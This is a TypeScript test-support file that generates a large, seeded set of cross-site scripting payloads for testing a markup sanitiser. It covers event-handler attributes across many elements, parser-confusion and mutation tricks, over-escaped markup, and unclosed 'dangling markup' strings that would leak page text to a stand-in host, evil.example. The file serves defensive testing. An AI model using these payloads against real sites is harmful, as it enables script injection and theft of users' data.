import { escapeMarkup } from '#lib/escape-markup.ts';
import { pick, seededRandom } from '#testing/seeded-random.ts';
import { addresses, asNumbers, places } from '#testing/wires/attack-addresses.ts';

/**
 * Markup that runs a script or asks another host for something wherever it is believed: what feeds of ill will send.
 * Each is a way in (an event, an address, a style, a parser's confusion) in one of its spellings. `ran` and `alert` are
 * watched by whoever shows them (`e2e/strangers-markup.ts`).
 */
type Random = () => number;
type Attack = (random: Random) => string;

const codes = ['alert(1)', 'ran(1)', 'top.ran(1)', 'self[/ran/.source](1)', '(()=>{ran(1)})()', 'void ran(1)'];

const events = (
  'load error click dblclick mousedown mouseover mouseenter mouseout mousemove wheel focus focusin blur keydown keypress ' +
  'input change submit reset invalid select copy cut paste drag dragstart drop play playing canplay loadeddata ' +
  'loadstart loadedmetadata progress timeupdate ended toggle beforetoggle begin end repeat start finish bounce scroll ' +
  'scrollend resize hashchange message pageshow pagehide popstate unload beforeunload animationstart animationend ' +
  'animationiteration transitionstart transitionrun transitionend pointerdown pointerover pointerenter pointerrawupdate ' +
  'gotpointercapture auxclick contextmenu touchstart securitypolicyviolation slotchange cuechange ' +
  'beforecopy beforepaste beforeinput beforematch contentvisibilityautostatechange selectstart search show cancel close ' +
  'durationchange emptied stalled suspend waiting seeking volumechange ratechange formdata snapchanging'
).split(' ');

/** Elements with all they need to raise events by themselves. `HERE` is where the event's attribute stands. */
const carriers = [
  '<img src=x HERE>',
  '<img/src=x/HERE>',
  '<image src=x HERE>',
  '<svg HERE></svg>',
  '<svg><g HERE></g></svg>',
  '<svg><image href=x HERE></svg>',
  '<svg><animate attributeName=x dur=1s HERE></svg>',
  '<svg><set attributeName=x to=1 HERE></svg>',
  '<body HERE>',
  '<html HERE>',
  '<input autofocus HERE>',
  '<input type=image src=x HERE>',
  '<select autofocus HERE></select>',
  '<textarea autofocus HERE></textarea>',
  '<button popovertarget=a HERE>x</button>',
  '<a tabindex=1 autofocus href=# HERE>x</a>',
  '<div contenteditable autofocus HERE>x</div>',
  '<details open HERE><summary>x</summary>y</details>',
  '<dialog open HERE>x</dialog>',
  '<video src=x autoplay HERE></video>',
  '<video HERE><source src=x HERE></video>',
  '<audio src=data:audio/wav;base64,UklGRg== autoplay HERE></audio>',
  '<object data=x HERE></object>',
  '<embed src=x HERE>',
  '<iframe src=about:blank HERE></iframe>',
  '<iframe srcdoc="<p>x</p>" HERE></iframe>',
  '<marquee loop=1 width=0 HERE>x</marquee>',
  '<style HERE>p{color:red}</style>',
  '<link rel=stylesheet href=x HERE>',
  '<script src=x HERE></script>',
  '<track default src=x HERE>',
  '<math><mtext HERE>x</mtext></math>',
  '<p style="animation:a 1s" HERE>x</p>',
  '<p style="transition:all 1s" HERE>x</p>',
  '<form HERE><input required><button>x</button></form>',
  '<unknown-element tabindex=1 autofocus HERE>x</unknown-element>',
];

const asAttribute: readonly ((name: string, code: string) => string)[] = [
  (name, code) => `on${name}=${code}`,
  (name, code) => `on${name}="${code}"`,
  (name, code) => `on${name}='${code}'`,
  (name, code) => `ON${name.toUpperCase()}=${code}`,
  (name, code) => `on${name} = "${code}"`,
  (name, code) => `on${name}\n=\n"${code}"`,
  (name, code) => `a="b"on${name}="${code}"`,
  (name, code) => `/on${name}=${code}//`,
  (name, code) => `\fon${name}="${code}"`,
  (name, code) => `alt="\`"on${name}="${code}"`,
  (name, code) => `on${name}="${asNumbers(code)}"`,
  (name, code) => `on${name}="javascript:${code}"`,
  (name, code) => `\u0000on${name}="${code}"`,
];

const onEvent: Attack = (random) =>
  pick(carriers, random).replaceAll('HERE', pick(asAttribute, random)(pick(events, random), pick(codes, random)));

const byAddress: Attack = (random) =>
  pick(places, random).replaceAll('HERE', pick(addresses, random)(pick(codes, random)));

const plain = (random: Random) => `<img src=x onerror=${pick(codes, random)}>`;
const raw = 'noscript title textarea style xmp iframe noembed noframes template plaintext script option svg math'.split(
  ' ',
);
const wrappers = 'svg math table select form noscript template p ul a button details caption video object'.split(' ');

/** Markup that one parser reads otherwise than another, or than itself the second time. */
const confusions: readonly Attack[] = [
  (random) => `<${pick(raw, random)}><a id="</${pick(raw, random)}>${plain(random)}">x</a>`,
  (random) => `<${pick(wrappers, random)}><${pick(raw, random)}></${pick(wrappers, random)}>${plain(random)}`,
  (random) => `<${pick(wrappers, random)}><style><!--</style>${plain(random)}--></${pick(wrappers, random)}>`,
  (random) => `<svg></p><style><a title="</style>${plain(random)}">`,
  (random) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escapeMarkup(plain(random))}">`,
  (random) => `<form><math><mtext></form><form><mglyph><style></math>${plain(random)}`,
  (random) => `<svg><foreignObject><${pick(raw, random)}>${plain(random)}</foreignObject></svg>`,
  (random) => `<math><annotation-xml encoding="text/html">${plain(random)}</annotation-xml></math>`,
  (random) => `<!--><${pick(raw, random)}>${plain(random)}-->`,
  (random) => `<!-- --!>${plain(random)}-->`,
  (random) => `<!--[if true]>${plain(random)}<![endif]-->`,
  (random) => `<![CDATA[${plain(random)}]]>${plain(random)}`,
  (random) => `]]>${plain(random)}<![CDATA[`,
  (random) => `<?xml version="1.0"?>${plain(random)}<? >${plain(random)}`,
  (random) => `<scr<script>ipt>${pick(codes, random)}</scr</script>ipt>`,
  (random) => `<script>${pick(codes, random)}</script>`,
  (random) => `<SCRIPT/x>${pick(codes, random)}</SCRIPT\n>`,
  (random) => `<script\u0000>${pick(codes, random)}</script>`,
  (random) => `<svg><script>${asNumbers(pick(codes, random))}</script></svg>`,
  (random) => `<iframe srcdoc="${escapeMarkup(plain(random))}"></iframe>`,
  () => `<iframe srcdoc="&lt;script&gt;parent.ran(1)&lt;/script&gt;"></iframe>`,
  (random) => `<div><template shadowrootmode=open>${plain(random)}</template></div>`,
  (random) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${pick(codes, random)}</x:script>`,
  (random) => `<p title='"'>x</p title='${plain(random)}'>`,
  (random) => `</p${' '.repeat(3)}${plain(random)}>${plain(random)}`,
  (random) => `<a href="https://city.example/"x="${plain(random)}">x</a>`,
  (random) => `"'\`>${plain(random)}`,
  (random) => `" onmouseover="${pick(codes, random)}" x="`,
  (random) => `' autofocus onfocus='${pick(codes, random)}' x='`,
  (random) => `${'<b>'.repeat(300)}${plain(random)}`,
  (random) => `<${'a'.repeat(5_000)} ${plain(random)}>`,
];

/** What would be markup once it is unescaped once more than it should be. */
const escaped: Attack = (random) => {
  const times = 1 + Math.floor(random() * 3);
  return Array.from({ length: times }).reduce<string>(escapeMarkup, plain(random));
};

/** Left open, so that it swallows what follows: the last of its text. */
export const openAttacks: readonly string[] = [
  '<img src="https://evil.example/?',
  "<a href='https://evil.example/?",
  '<form action=https://evil.example/><textarea name=a>',
  '<p>x</p><plaintext><img src=x onerror=ran(1)>',
  '<script>ran(1)',
  '<svg onload=ran(1)',
  '<style>*{background:url(https://evil.example/',
  '<!-- <img src=x onerror=ran(1)>',
  '<iframe srcdoc="<script>ran(1)</script>',
  '<![CDATA[<img src=x onerror=ran(1)>',
];

/** So many different attacks, the same ones each time. */
export function feedAttacks(count: number, seed = 1): string[] {
  const random = seededRandom(seed);
  const found = new Set<string>();
  while (found.size < count) {
    const kind = random();
    if (kind < 0.35) found.add(onEvent(random));
    else if (kind < 0.7) found.add(byAddress(random));
    else if (kind < 0.95) found.add(pick(confusions, random)(random));
    else found.add(escaped(random));
  }
  return [...found];
}
